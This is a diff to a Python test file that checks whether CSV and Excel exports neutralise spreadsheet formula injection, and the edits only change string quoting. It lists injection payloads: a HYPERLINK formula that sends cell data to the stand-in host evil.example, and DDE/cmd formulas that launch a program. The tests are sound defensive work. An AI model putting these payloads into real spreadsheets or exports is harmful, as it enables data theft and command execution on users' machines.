@@ -20,13 +20,13 @@ from smartsupport_core.exports import FORMULA_PREFIXES, to_csv_bytes, to_excel_b
 
 PAYLOADS = [
     "=1+1",
-    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
     "+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "\t=1+1",
     "\r=1+1",
-    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
+    '=DDE("cmd";"/C calc";"!A0")',
 ]
 
 # Text a person can type (openpyxl refuses ASCII control characters other than \t\n\r).
@@ -94,7 +94,7 @@ def test_any_text_round_trips_neutralised(values):
 
 def test_a_carriage_return_cannot_start_a_formula_row():
     """A bare CR inside a cell must be quoted: spreadsheets split rows on it."""
-    df = pd.DataFrame({"subject": ["broken\r=HYPERLINK(\"http://evil.example\")", "next"]})
+    df = pd.DataFrame({"subject": ['broken\r=HYPERLINK("http://evil.example")', "next"]})
     rows = _csv_rows(to_csv_bytes(df))
-    assert rows == [["subject"], ["broken\r=HYPERLINK(\"http://evil.example\")"], ["next"]]
+    assert rows == [["subject"], ['broken\r=HYPERLINK("http://evil.example")'], ["next"]]
     assert b'"broken\r=HYPERLINK' in to_csv_bytes(df).replace(b'""', b'"')
